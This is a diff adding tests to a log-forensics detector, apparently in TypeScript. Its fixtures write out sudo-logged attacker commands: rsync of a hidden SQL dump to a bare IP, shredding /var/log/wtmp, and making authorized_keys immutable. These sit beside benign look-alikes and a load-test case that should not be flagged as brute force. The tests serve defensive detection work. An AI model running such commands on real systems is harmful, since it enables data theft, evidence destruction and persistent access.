@@ -200,3 +200,48 @@ describe('a stack of Java', () => {
     ).toBeUndefined();
   });
 });
+
+describe('commands that sudo logs', () => {
+  const sudo = async (...commands: string[]): Promise<string[]> =>
+    judged(
+      await sheetOf({
+        'var/log/secure': commands
+          .map(
+            (command, i) =>
+              `Feb 14 22:4${i}:10 db1 sudo[901${i}]:       bo : TTY=pts/0 ; PWD=/home/bo ; USER=root ; COMMAND=${command}`,
+          )
+          .join('\n'),
+      }),
+    );
+  it('tell as those of a history do', async () => {
+    expect(
+      await sudo(
+        '/bin/rsync -az /var/tmp/.x.sql up@203.0.113.150:/data/',
+        '/bin/shred -u /var/log/wtmp',
+        '/bin/chattr +i /home/svc/.ssh/authorized_keys',
+      ),
+    ).toEqual([
+      'history: sends a hidden file to a bare address',
+      'history: hides its traces',
+      'history: makes itself hard to remove',
+    ]);
+  });
+  it('of ordinary days tell nothing', async () => {
+    expect(
+      await sudo(
+        '/bin/chattr +i /etc/resolv.conf',
+        '/usr/bin/rsync -a /srv/backup/ store@203.0.113.150:/data/',
+        '/usr/sbin/useradd -m carla',
+        '/bin/systemctl restart nginx',
+      ),
+    ).toEqual([]);
+  });
+});
+
+it('a test of load that is let in as often as it is refused guesses nothing', async () => {
+  const log = Array.from({ length: 300 }, (_, i) => {
+    const [status, bytes] = i % 2 ? [302, 120] : [200, 8120];
+    return `10.0.3.4 - - [09/Mar/2026:13:0${Math.floor(i / 60)}:${String(i % 60).padStart(2, '0')} +0000] "POST /login HTTP/1.1" ${status} ${bytes} "-" "k6/0.49.0 (https://k6.io/)"`;
+  }).join('\n');
+  expect((await sheetOf({ 'access.log': log })).bruteForce).toEqual([]);
+});
